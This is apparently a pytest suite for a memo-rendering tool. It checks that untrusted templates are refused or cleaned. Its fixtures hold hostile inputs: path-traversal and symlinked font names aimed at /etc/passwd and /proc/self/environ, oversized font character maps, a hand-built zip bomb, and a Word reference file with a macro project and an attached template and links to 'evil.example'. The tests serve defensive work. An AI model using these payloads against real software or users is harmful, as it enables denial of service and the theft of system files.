"""Templates are untrusted input: theme.toml, font files and reference.docx are checked.

Each broken template in tests/cases/templates/ (and each made here: links, reference
documents, a zip bomb) must stop ``briefing render`` with exit 1, a message naming the
file (with line and column for theme.toml), no traceback and no file written; and
``briefing templates --check`` must list the problem. The bundled template passes.
"""

from __future__ import annotations

import io
import shutil
import struct
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path

import pytest
from lxml import etree

from briefing.errors import TemplateError
from briefing.resources import fonts_dir, templates_dir
from briefing.templates import check_template, load_template
from briefing.theme import load_theme
from briefing.tomlpos import locate

ROOT = Path(__file__).resolve().parents[1]
EXAMPLE = ROOT / "examples" / "us-azerbaijan-charter.yaml"
CASES = ROOT / "tests" / "cases" / "templates"
MEMO = templates_dir() / "memo"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"

# case folder -> (line in its theme.toml, words the message must hold)
THEME_CASES = {
    "typo-key": (14, "unknown key 'margn_left'; did you mean 'margin_left'?"),
    "wrong-type": (101, "styles.title.bold: must be true or false"),
    "page-nan": (10, "page.size: nan is not a finite length"),
    "page-inf": (10, "page.size: inf is not a finite length"),
    "page-huge": (10, "page.size: 1000000000.0 is out of range"),
    "size-zero": (89, "styles.base.size: 0: must be more than 0"),
    "size-negative": (89, "styles.base.size: -4: must be more than 0"),
    "size-huge": (102, "styles.title.size: '5000pt': must be more than 0 and at most 72pt"),
    "margin-negative": (14, "page.margin_left: '-500mm' is out of range"),
    "margins-wider": (14, "leave less than 1in of text width"),
    # three list levels of 200pt left no width: the PDF dropped the item's text
    "list-indent-wide": (78, "spacing.list_indent: leaves list items 0.00in of the 6.42in"),
    "note-padding-wide": (81, "spacing.note_padding: leaves notes 0.00in of the 6.42in"),
    "bad-colour": (46, "colors.navy: '#1F386' is not a colour"),
    "parent-loop": (150, "parent loop: heading2 -> heading3 -> heading2"),
    "font-dotdot": (32, "'../../etc/passwd' climbs out of the template folder"),
    "font-absolute": (32, "'/proc/self/environ' is an absolute path"),
    "font-not-a-font": (32, "'NotAFont.ttf' is not a TrueType font"),
    "int-huge": (20, "page.rule_width: 99999999999999999999"),
    "int-5000-digits": (20, "a number of thousands of digits is not a finite number in range"),
    "document-choice": (261, "document.date_style: a list: use 'long' or 'official'"),
}


def run(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "briefing", *args],
        capture_output=True,
        text=True,
        timeout=300,
        cwd=ROOT,
    )


def assert_refused(folder: Path, out: Path, *expected: str) -> None:
    """render: exit 1, the message, no traceback, nothing written; --check lists it."""
    proc = run("render", str(EXAMPLE), "-t", str(folder), "-o", str(out))
    assert proc.returncode == 1, proc.stderr
    for words in expected:
        assert words in proc.stderr, proc.stderr
    assert "Traceback" not in proc.stderr and "internal error" not in proc.stderr
    assert not out.exists() or list(out.iterdir()) == []
    assert proc.stdout == ""
    check = run("templates", "--check", str(folder))
    assert check.returncode == 1, check.stderr
    for words in expected:
        assert words in check.stderr, check.stderr
    assert "Traceback" not in check.stderr


# -- theme.toml --------------------------------------------------------------------------


@pytest.mark.parametrize("case", sorted(THEME_CASES))
def test_broken_theme_is_refused_with_its_position(case: str, tmp_path: Path) -> None:
    line, words = THEME_CASES[case]
    folder = CASES / case
    assert_refused(folder, tmp_path / "out", f"{folder}/theme.toml:{line}:", words)


def test_every_problem_of_a_theme_is_reported_at_once(tmp_path: Path) -> None:
    text = (MEMO / "theme.toml").read_text(encoding="utf-8")
    text = text.replace("rule_width = 0.5", "rule_width = true\nfoo = { a = 1 }")
    text = text.replace('bullets = ["•", "–", "‣"]', 'bullets = ["•", "", "‣"]')
    text = text.replace('[styles.toc2]\nparent = "toc1"', '[styles.toc2]\nparent = "nope"')
    text += "\n[extra]\nx = 1\n"
    (tmp_path / "theme.toml").write_text(text, encoding="utf-8")
    with pytest.raises(TemplateError) as caught:
        load_theme(tmp_path)
    problems = caught.value.problems
    assert [p.field for p in problems] == [
        "page.rule_width", "page.foo", "lists.bullets", "styles.toc2.parent", "extra",
    ]  # fmt: skip
    lines = [p.position.line for p in problems if p.position]
    assert lines == sorted(lines) and len(lines) == 5
    assert all(p.position and p.position.file == str(tmp_path / "theme.toml") for p in problems)


def test_a_330_digit_integer_is_out_of_range(tmp_path: Path) -> None:
    problems = check_template(str(CASES / "int-huge"))
    assert [p.field for p in problems] == ["page.rule_width"]
    assert str(problems[0]).endswith("... is not a finite number in range")


def test_a_5000_digit_integer_is_placed_at_its_column() -> None:
    problems = check_template(str(CASES / "int-5000-digits"))
    assert len(problems) == 1 and problems[0].position is not None
    assert (problems[0].position.line, problems[0].position.col) == (20, 14)


def _memo_with_styles(folder: Path, styles: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "theme.toml").write_text(
        (MEMO / "theme.toml").read_text(encoding="utf-8") + styles, encoding="utf-8"
    )
    return folder


def test_long_parent_chains_and_many_styles_are_refused_quickly(tmp_path: Path) -> None:
    # 150 styles, each the parent of the next: below the style cap, above the chain cap
    chain = "".join(f'\n[styles.s{i}]\nparent = "s{i + 1}"\n' for i in range(149))
    chain += '\n[styles.s149]\nparent = "base"\n'
    problems = check_template(str(_memo_with_styles(tmp_path / "chain", chain)))
    assert [p.message for p in problems] == ["a chain of parents longer than 20 styles"]
    assert problems[0].field == "styles.s19.parent" and problems[0].position is not None
    # a loop of 20,000 styles: one problem, no recursion
    loop = "".join(f'\n[styles.l{i}]\nparent = "l{(i + 1) % 20000}"\n' for i in range(20000))
    problems = check_template(str(_memo_with_styles(tmp_path / "loop", loop)))
    assert [p.message for p in problems] == ["[styles] has 20026 styles (at most 200)"]
    # a short loop is still named as one
    short = '\n[styles.a]\nparent = "b"\n\n[styles.b]\nparent = "c"\n\n[styles.c]\nparent = "a"\n'
    problems = check_template(str(_memo_with_styles(tmp_path / "short", short)))
    assert [p.message for p in problems] == ["parent loop: a -> b -> c -> a"]


def test_values_are_shown_as_written_and_reported_once(tmp_path: Path) -> None:
    text = (MEMO / "theme.toml").read_text(encoding="utf-8")
    text = text.replace("rule_width = 0.5", "rule_width = 1979-05-27")
    text = text.replace('custom = "#4A5360"', "custom = 12:30:00")
    (tmp_path / "theme.toml").write_text(text, encoding="utf-8")
    problems = [str(p) for p in check_template(str(tmp_path))]
    assert len(problems) == 2, problems
    assert "page.rule_width: 1979-05-27 is not a length" in problems[0]
    assert "classification.custom: 12:30:00 is not a colour" in problems[1]
    assert "datetime" not in " ".join(problems)


def test_theme_toml_that_links_outside_is_refused(tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere.toml"
    shutil.copy(MEMO / "theme.toml", outside)
    folder = tmp_path / "tpl"
    folder.mkdir()
    (folder / "theme.toml").symlink_to(outside)
    assert_refused(folder, tmp_path / "out", "theme.toml: a link that leads outside")


def test_toml_syntax_error_has_line_and_column(tmp_path: Path) -> None:
    lines = (MEMO / "theme.toml").read_text(encoding="utf-8").splitlines()
    lines[9] = 'size = "A4'  # line 10: an unterminated string
    (tmp_path / "theme.toml").write_text("\n".join(lines), encoding="utf-8")
    problems = check_template(str(tmp_path))
    assert len(problems) == 1
    assert str(problems[0]).startswith(f"{tmp_path}/theme.toml:10:11: TOML syntax:")


def test_theme_toml_saved_with_a_byte_order_mark(tmp_path: Path) -> None:
    """Notepad's "UTF-8 with BOM": tomllib read the mark as a statement ("TOML syntax:
    Invalid statement" at 1:1); briefs accept it, and so do themes. Positions stay those
    an editor shows (the mark takes no column)."""
    shutil.copytree(MEMO, tmp_path / "tpl")
    theme = tmp_path / "tpl" / "theme.toml"
    text = theme.read_text(encoding="utf-8")
    theme.write_text("\ufeff" + text, encoding="utf-8")
    assert check_template(str(tmp_path / "tpl")) == []
    theme.write_text("\ufeff" + text.replace('size = "A4"', 'size = "A9"', 1), encoding="utf-8")
    (problem,) = check_template(str(tmp_path / "tpl"))
    assert str(problem).startswith(f"{theme}:10:1: page.size:")


def test_locator_finds_keys_tomllib_does_not_place() -> None:
    text = (
        'a = """x\n[fake]\ny = 1"""\n'
        "b.c = { d = 1, \"e f\" = [1,\n  2], g = {h = 'x'} }\n"
        "arr = [ {p = 1},\n {q = 2} ] # [not.a.table]\n"
        '[t."q.k"]\n'
        "z = 1979-05-27 07:32:00 # a date with a space\n"
    )
    found = locate(text)
    assert found[("a",)] == (1, 1)
    assert ("fake",) not in found and ("y",) not in found
    assert found[("b", "c")] == (4, 1)
    assert found[("b", "c", "d")] == (4, 9)
    assert found[("b", "c", "e f")] == (4, 16)
    assert found[("b", "c", "g", "h")] == (5, 12)
    assert found[("t", "q.k")] == (8, 1)
    assert found[("t", "q.k", "z")] == (9, 1)


def test_bundled_template_passes_check_and_is_typed() -> None:
    proc = run("templates", "--check", str(MEMO))
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.strip() == f"{MEMO}: ok"
    listed = run("templates")
    assert listed.stdout.startswith("memo\tSober ministry memo")
    theme = load_template("memo").theme
    assert (round(theme.page.width, 2), round(theme.page.height, 2)) == (595.28, 841.89)
    assert theme.styles["heading3"].bold and theme.styles["heading3"].italic  # inherited
    assert theme.styles["heading3"].color == theme.colors["text"]
    assert theme.fonts.stack == ("sans", "serif")
    assert theme.fonts.families["sans"].regular == fonts_dir() / "NotoSans-Regular.ttf"
    assert theme.marking_color("confidential") == "#C62828"
    assert theme.marking_color("eyes only") == theme.classification["custom"]


def test_landscape_and_units(tmp_path: Path) -> None:
    text = (MEMO / "theme.toml").read_text(encoding="utf-8")
    text = text.replace('size = "A4"', 'size = "Letter-landscape"', 1)
    text = text.replace('margin_left = "25mm"', 'margin_left = "1in"')
    (tmp_path / "theme.toml").write_text(text, encoding="utf-8")
    page = load_theme(tmp_path).page
    assert (page.width, page.height, page.margin_left) == (792.0, 612.0, 72.0)


# -- font files ----------------------------------------------------------------------------


def _theme_with_regular(folder: Path, name: str) -> None:
    text = (MEMO / "theme.toml").read_text(encoding="utf-8")
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "theme.toml").write_text(
        text.replace('regular = "NotoSans-Regular.ttf"', f'regular = "{name}"'), encoding="utf-8"
    )


def test_font_link_that_leads_outside_is_refused(tmp_path: Path) -> None:
    folder = tmp_path / "tpl"
    _theme_with_regular(folder, "Linked.ttf")
    (folder / "Linked.ttf").symlink_to("/etc/passwd")
    assert_refused(
        folder, tmp_path / "out", f"{folder}/theme.toml:32:", "'Linked.ttf' is a link that leads"
    )
    # a font folder that is itself a link outside is refused the same way
    (folder / "Linked.ttf").unlink()
    (folder / "fonts").symlink_to(fonts_dir())
    _theme_with_regular(folder, "NotoSans-Bold.ttf")  # also bundled, but found first here
    with pytest.raises(TemplateError, match="leads outside the template folder"):
        load_theme(folder)


def test_font_inside_the_folder_is_used(tmp_path: Path) -> None:
    folder = tmp_path / "tpl"
    _theme_with_regular(folder, "fonts/Body.ttf")
    (folder / "fonts").mkdir()
    shutil.copy(fonts_dir() / "NotoSerif-Regular.ttf", folder / "fonts" / "Body.ttf")
    (folder / "Alias.ttf").symlink_to(folder / "fonts" / "Body.ttf")  # a link inside is fine
    theme = load_theme(folder)
    assert theme.fonts.families["sans"].regular == (folder / "fonts" / "Body.ttf").resolve()
    _theme_with_regular(folder, "Alias.ttf")
    assert load_theme(folder).fonts.families["sans"].regular.name == "Body.ttf"


def test_truncated_font_is_refused(tmp_path: Path) -> None:
    folder = tmp_path / "tpl"
    _theme_with_regular(folder, "Cut.ttf")
    data = (fonts_dir() / "NotoSans-Regular.ttf").read_bytes()
    (folder / "Cut.ttf").write_bytes(data[:2000])
    problems = check_template(str(folder))
    assert len(problems) == 1 and "'Cut.ttf' is truncated" in str(problems[0])


def _font_with_cmap(path: Path, subtable: bytes) -> None:
    """A minimal TrueType file: the tables ReportLab needs (all but cmap zero-filled) and
    a cmap whose one Windows subtable is ``subtable``."""
    (fmt,) = struct.unpack_from(">H", subtable)
    encoding = 10 if fmt == 12 else 1
    tables = {b"cmap": struct.pack(">HHHHI", 0, 1, 3, encoding, 12) + subtable}
    for tag in (b"glyf", b"head", b"hhea", b"hmtx", b"loca", b"maxp"):
        tables[tag] = bytes(64)
    offset = 12 + 16 * len(tables)
    directory, bodies = b"", b""
    for tag, data in tables.items():
        directory += struct.pack(">4sIII", tag, 0, offset + len(bodies), len(data))
        bodies += data + bytes(-len(data) % 4)
    header = struct.pack(">4sHHHH", b"\x00\x01\x00\x00", len(tables), 0, 0, 0)
    path.write_bytes(header + directory + bodies)


def _format12(groups: list[tuple[int, int, int]]) -> bytes:
    body = b"".join(struct.pack(">III", *group) for group in groups)
    return struct.pack(">HHIII", 12, 0, 16 + len(body), 0, len(groups)) + body


def _format4(segments: list[tuple[int, int, int]]) -> bytes:
    """(first, last, delta) segments, no glyph index array, plus the closing 0xFFFF."""
    segments = [*segments, (0xFFFF, 0xFFFF, 1)]
    n = len(segments)
    body = struct.pack(f">{n}H", *(last for _, last, _ in segments)) + b"\x00\x00"
    body += struct.pack(f">{n}H", *(first for first, _, _ in segments))
    body += struct.pack(f">{n}h", *(delta for _, _, delta in segments))
    body += bytes(2 * n)  # idRangeOffset 0: glyph = code point + delta
    return struct.pack(">7H", 4, min(14 + len(body), 0xFFFF), 0, 2 * n, 0, 0, 0) + body


@pytest.mark.parametrize(
    "subtable",
    [
        pytest.param(_format12([(0, 0xFFFFFFFF, 1)]), id="format12-one-huge-group"),
        pytest.param(_format4([(0, 0xFFFE, 1)] * 32000), id="format4-32000-overlapping"),
    ],
)
def test_font_whose_cmap_lists_too_many_code_points_is_refused(
    subtable: bytes, tmp_path: Path
) -> None:
    folder = tmp_path / "tpl"
    _theme_with_regular(folder, "Huge.ttf")
    _font_with_cmap(folder / "Huge.ttf", subtable)
    assert_refused(
        folder, tmp_path / "out", f"{folder}/theme.toml:32:", "'Huge.ttf': its character map "
        "lists more than 200,000 code points"
    )  # fmt: skip


def test_cmap_groups_beyond_unicode_are_ignored(tmp_path: Path) -> None:
    from briefing.glyphs import cmap_codepoints

    font = tmp_path / "Astral.ttf"
    _font_with_cmap(font, _format12([(0x20, 0x7E, 3), (0x10FFF0, 0x110010, 200)]))
    mapped = cmap_codepoints(font)
    assert max(mapped) == 0x10FFFF and len(mapped) == 0x7E - 0x20 + 1 + 16


def test_font_name_too_long_for_the_system_is_a_font_problem(tmp_path: Path) -> None:
    folder = tmp_path / "tpl"
    _theme_with_regular(folder, "x" * 300 + ".ttf")
    assert_refused(folder, tmp_path / "out", f"{folder}/theme.toml:32:", "not found or unreadable")


# -- reference.docx ------------------------------------------------------------------------


def memo_parts() -> dict[str, bytes]:
    with zipfile.ZipFile(MEMO / "reference.docx") as z:
        return {name: z.read(name) for name in z.namelist()}


def write_docx(path: Path, parts: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)


def template_with_reference(folder: Path, write: object) -> Path:
    folder.mkdir(parents=True)
    shutil.copy(MEMO / "theme.toml", folder / "theme.toml")
    if isinstance(write, bytes):
        (folder / "reference.docx").write_bytes(write)
    else:
        write_docx(folder / "reference.docx", write)  # type: ignore[arg-type]
    return folder


def test_reference_that_is_not_a_zip_is_refused(tmp_path: Path) -> None:
    folder = template_with_reference(tmp_path / "tpl", b"PK\x03\x04 but not really a zip")
    reference = folder / "reference.docx"
    assert_refused(folder, tmp_path / "out", f"{reference}: not a Word document")


def test_reference_without_heading_1_is_refused(tmp_path: Path) -> None:
    parts = memo_parts()
    styles = etree.fromstring(parts["word/styles.xml"])
    for style in styles.findall(f"{{{W}}}style"):
        if style.get(f"{{{W}}}styleId") == "Heading1":
            styles.remove(style)
    parts["word/styles.xml"] = etree.tostring(styles, xml_declaration=True, encoding="UTF-8")
    folder = template_with_reference(tmp_path / "tpl", parts)
    assert_refused(
        folder, tmp_path / "out", f"{folder / 'reference.docx'}: lacks the paragraph style "
        "'Heading 1', which the DOCX renderer needs"
    )  # fmt: skip


def _hostile_parts() -> dict[str, bytes]:
    """The memo reference with an attached template fetched by URL, a macro project, an
    external link from the body and a header: none of it may reach a memo."""
    parts = memo_parts()
    settings = etree.fromstring(parts["word/settings.xml"])
    attached = etree.SubElement(settings, f"{{{W}}}attachedTemplate")
    attached.set(f"{{{R}}}id", "rId1")
    settings.insert(1, attached)
    parts["word/settings.xml"] = etree.tostring(settings)
    parts["word/_rels/settings.xml.rels"] = (
        f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
        "</Relationships>"
    ).encode()
    rels = parts["word/_rels/document.xml.rels"].decode()
    rels = rels.replace(
        "</Relationships>",
        '<Relationship Id="rId90" Type="http://schemas.microsoft.com/office/2006/'
        'relationships/vbaProject" Target="vbaProject.bin"/>'
        '<Relationship Id="rId91" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/hyperlink" Target="http://evil.example/" TargetMode="External"/>'
        '<Relationship Id="rId92" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/styles" Target="http://evil.example/s.xml" TargetMode="External"/>'
        "</Relationships>",
    )
    parts["word/_rels/document.xml.rels"] = rels.encode()
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macros"
    types = (
        parts["[Content_Types].xml"]
        .decode()
        .replace(
            "</Types>",
            '<Override PartName="/word/vbaProject.bin" '
            'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        )
    )
    parts["[Content_Types].xml"] = types.encode()
    document = (
        parts["word/document.xml"]
        .decode()
        .replace(
            "<w:body>",
            '<w:body><w:p><w:hyperlink r:id="rId91"><w:r><w:t>click</w:t></w:r>'
            "</w:hyperlink></w:p>",
        )
    )
    parts["word/document.xml"] = document.encode()
    return parts


def test_reference_with_attached_template_and_macros_renders_clean(tmp_path: Path) -> None:
    folder = template_with_reference(tmp_path / "tpl", _hostile_parts())
    out = tmp_path / "out"
    proc = run("render", str(EXAMPLE), "-t", str(folder), "-f", "docx", "-o", str(out))
    assert proc.returncode == 0, proc.stderr
    assert run("templates", "--check", str(folder)).returncode == 0
    with zipfile.ZipFile(out / "us-azerbaijan-charter.en.docx") as memo:
        names = memo.namelist()
        assert not [n for n in names if "vba" in n.lower() or n.endswith(".bin")], names
        texts = {n: memo.read(n) for n in names if n.endswith((".xml", ".rels"))}
    for name, data in texts.items():
        assert b"evil.example" not in data, name
        assert b"attachedTemplate" not in data and b"click" not in data, name
        assert b"vbaProject" not in data, name
    for name in (n for n in texts if n.endswith(".rels")):
        for rel in etree.fromstring(texts[name]):
            if rel.get("TargetMode") == "External":  # only the brief's own links
                assert rel.get("Type", "").endswith("/hyperlink"), name
                assert rel.get("Target", "").startswith("https://"), rel.get("Target")


# -- a zip bomb ------------------------------------------------------------------------------

GIB = 1 << 30


def _zip_with_bomb(path: Path, parts: dict[str, bytes], bomb: str) -> None:
    """A zip of ``parts`` plus ``bomb``: 1 GiB of zeros deflated to about 1 MB.

    Written by hand: the deflate stream is one fully flushed 1 MiB block repeated, so
    making it takes a second, not the ten zipfile would need to compress a gigabyte.
    """
    chunk = bytes(1 << 20)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(GIB // len(chunk)):
        crc = zlib.crc32(chunk, crc)
    end = b"\x03\x00"  # a final, empty fixed-Huffman block
    entries: list[tuple[str, int, int, int, list[bytes]]] = []
    for name, data in parts.items():
        packed = zlib.compressobj(6, zlib.DEFLATED, -15)
        body = packed.compress(data) + packed.flush()
        entries.append((name, zlib.crc32(data), len(body), len(data), [body]))
    entries.append((bomb, crc, len(block) * (GIB // len(chunk)) + len(end), GIB,
                    [block] * (GIB // len(chunk)) + [end]))  # fmt: skip
    with path.open("wb") as out:
        central = b""
        for name, crc32, size, raw_size, bodies in entries:
            offset = out.tell()
            raw = name.encode()
            out.write(struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 33, crc32, size,
                                  raw_size, len(raw), 0) + raw)  # fmt: skip
            for body in bodies:
                out.write(body)
            central += struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 33,
                                   crc32, size, raw_size, len(raw), 0, 0, 0, 0, 0,
                                   offset) + raw  # fmt: skip
        start = out.tell()
        out.write(central)
        out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries),
                              len(central), start, 0))  # fmt: skip


MEASURE = """
import resource, subprocess, sys
resource.setrlimit(resource.RLIMIT_AS, (1536 << 20, 1536 << 20))
proc = subprocess.run(sys.argv[1:], capture_output=True, text=True)
sys.stderr.write(proc.stderr)
print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)  # KiB, the largest child
sys.exit(proc.returncode)
"""


def _render_measured(folder: Path, out: Path) -> tuple[int, str, int]:
    """Exit status, stderr and peak memory (KiB) of a render under a 1.5 GB limit."""
    proc = subprocess.run(
        [sys.executable, "-c", MEASURE, sys.executable, "-m", "briefing", "render",
         str(EXAMPLE), "-t", str(folder), "-o", str(out)],
        capture_output=True, text=True, timeout=300, cwd=ROOT,
    )  # fmt: skip
    return proc.returncode, proc.stderr, int(proc.stdout.strip().splitlines()[-1])


@pytest.mark.parametrize("bomb", ["word/styles.xml", "word/media/bomb.bin"])
def test_zip_bomb_is_never_inflated(bomb: str, tmp_path: Path) -> None:
    folder = tmp_path / "tpl"
    folder.mkdir()
    shutil.copy(MEMO / "theme.toml", folder / "theme.toml")
    parts = {k: v for k, v in memo_parts().items() if k != bomb}
    _zip_with_bomb(folder / "reference.docx", parts, bomb)
    assert (folder / "reference.docx").stat().st_size < 5_000_000
    with zipfile.ZipFile(folder / "reference.docx") as z:  # a real bomb: 1 GiB inside
        assert z.getinfo(bomb).file_size == GIB
    out = tmp_path / "out"
    code, stderr, peak_kib = _render_measured(folder, out)
    assert peak_kib < 400 * 1024, peak_kib
    assert "Traceback" not in stderr and "internal error" not in stderr
    if bomb == "word/styles.xml":  # a part the renderer needs: refused, nothing written
        assert code == 1, stderr
        assert "part word/styles.xml is larger than 5 MB uncompressed" in stderr
        assert not out.exists() or list(out.iterdir()) == []
    else:  # a part it does not use: never read, not in the memo
        assert code == 0, stderr
        with zipfile.ZipFile(out / "us-azerbaijan-charter.en.docx") as memo:
            assert not [n for n in memo.namelist() if "bomb" in n]


def test_clean_reference_of_the_memo_holds_only_known_parts() -> None:
    from briefing.renderers.docx.reference import clean_reference

    with zipfile.ZipFile(io.BytesIO(clean_reference(MEMO / "reference.docx"))) as z:
        assert sorted(z.namelist()) == sorted([
            "[Content_Types].xml", "_rels/.rels", "word/_rels/document.xml.rels",
            "word/document.xml", "word/styles.xml", "word/numbering.xml",
            "word/settings.xml", "word/webSettings.xml", "word/fontTable.xml",
            "word/theme/theme1.xml", "docProps/core.xml", "docProps/app.xml",
        ])  # fmt: skip


def test_clean_reference_keeps_no_reference_to_another_part(tmp_path: Path) -> None:
    """A header, an embedded font and a picture bullet in the reference: the clean
    package has none of their parts and no r:id left to dangle."""
    from briefing.renderers.docx.reference import clean_reference

    parts = memo_parts()
    header = f'<w:hdr xmlns:w="{W}"><w:p/></w:hdr>'
    parts["word/header1.xml"] = header.encode()
    parts["word/media/image1.png"] = b"\x89PNG picture"
    parts["word/fonts/font1.odttf"] = b"font"
    rels = (
        parts["word/_rels/document.xml.rels"]
        .decode()
        .replace(
            "</Relationships>",
            '<Relationship Id="rId70" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/header" Target="header1.xml"/></Relationships>',
        )
    )
    parts["word/_rels/document.xml.rels"] = rels.encode()
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"<w:sectPr>", b'<w:sectPr><w:headerReference w:type="default" r:id="rId70"/>'
    )
    fonts = etree.fromstring(parts["word/fontTable.xml"])
    embed = etree.SubElement(etree.SubElement(fonts, f"{{{W}}}font"), f"{{{W}}}embedRegular")
    embed.set(f"{{{R}}}id", "rId1")
    parts["word/fontTable.xml"] = etree.tostring(fonts)
    numbering = (
        parts["word/numbering.xml"]
        .decode()
        .replace(
            "<w:abstractNum ",
            '<w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape xmlns:v="urn:schemas-'
            f'microsoft-com:vml"><v:imagedata xmlns:r="{R}" r:id="rId1"/></v:shape></w:pict>'
            "</w:numPicBullet><w:abstractNum ",
            1,
        )
    )
    parts["word/numbering.xml"] = numbering.encode()
    write_docx(tmp_path / "reference.docx", parts)
    with zipfile.ZipFile(io.BytesIO(clean_reference(tmp_path / "reference.docx"))) as z:
        names = z.namelist()
        assert not [n for n in names if "header" in n or "media" in n or "fonts/" in n]
        for name in names:
            root = etree.fromstring(z.read(name))
            for element in root.iter():
                assert not [a for a in element.attrib if a.startswith(f"{{{R}}}")], name
        assert b"numPicBullet" not in z.read("word/numbering.xml")
        assert b"headerReference" not in z.read("word/document.xml")


def _edited(parts: dict[str, bytes], name: str, edit: object) -> dict[str, bytes]:
    root = etree.fromstring(parts[name])
    edit(root)  # type: ignore[operator]
    return {**parts, name: etree.tostring(root, xml_declaration=True, encoding="UTF-8")}


def _section_attribute(tag: str, attribute: str, value: str) -> object:
    def edit(document: etree._Element) -> None:
        element = document.find(f"{{{W}}}body/{{{W}}}sectPr/{{{W}}}{tag}")
        assert element is not None
        element.set(f"{{{W}}}{attribute}", value)

    return edit


@pytest.mark.parametrize(
    ("tag", "attribute", "value", "words"),
    [
        ("pgSz", "w", "abc", "w:pgSz w:w='abc' is not a whole number of twips"),
        ("pgMar", "left", "-99999999", "w:pgMar w:left='-99999999' is negative"),
        ("pgSz", "w", "9" * 20, f"w:pgSz w:w='{'9' * 20}' is out of range (1440 to 288000 twips"),
        ("pgMar", "right", "11000", "w:pgMar left, right and gutter leave less than 1 inch"),
    ],
)
def test_reference_with_bad_page_size_or_margins_is_refused(
    tag: str, attribute: str, value: str, words: str, tmp_path: Path
) -> None:
    parts = _edited(memo_parts(), "word/document.xml", _section_attribute(tag, attribute, value))
    folder = template_with_reference(tmp_path / "tpl", parts)
    assert_refused(folder, tmp_path / "out", f"{folder / 'reference.docx'}: {words}")


def test_reference_comments_are_dropped_and_a_wrong_core_part_is_replaced(
    tmp_path: Path,
) -> None:
    def comments(root: etree._Element) -> None:
        root.insert(0, etree.Comment(" a comment "))
        root.append(etree.ProcessingInstruction("pi", "here"))

    parts = _edited(memo_parts(), "word/settings.xml", comments)
    parts = _edited(parts, "word/styles.xml", comments)
    parts["docProps/core.xml"] = b"<notCoreProperties/>"
    folder = template_with_reference(tmp_path / "tpl", parts)
    out = tmp_path / "out"
    proc = run("render", str(EXAMPLE), "-t", str(folder), "-o", str(out), "-f", "docx")
    assert proc.returncode == 0, proc.stderr
    with zipfile.ZipFile(out / "us-azerbaijan-charter.en.docx") as memo:
        for name in ("word/settings.xml", "word/styles.xml"):
            assert b"<!--" not in memo.read(name) and b"<?pi" not in memo.read(name)
        assert b"notCoreProperties" not in memo.read("docProps/core.xml")


def test_reference_part_with_a_wrong_root_is_refused(tmp_path: Path) -> None:
    parts = {**memo_parts(), "word/numbering.xml": f'<w:styles xmlns:w="{W}"/>'.encode()}
    folder = template_with_reference(tmp_path / "tpl", parts)
    assert_refused(folder, tmp_path / "out", "part word/numbering.xml is not a numbering part")


def test_reference_with_too_many_styles_is_refused(tmp_path: Path) -> None:
    def many(root: etree._Element) -> None:
        for i in range(5001):
            style = etree.SubElement(root, f"{{{W}}}style", {f"{{{W}}}styleId": f"S{i}"})
            etree.SubElement(style, f"{{{W}}}name", {f"{{{W}}}val": f"S {i}"})

    parts = _edited(memo_parts(), "word/styles.xml", many)
    folder = template_with_reference(tmp_path / "tpl", parts)
    assert_refused(folder, tmp_path / "out", "elements (at most 5000)")
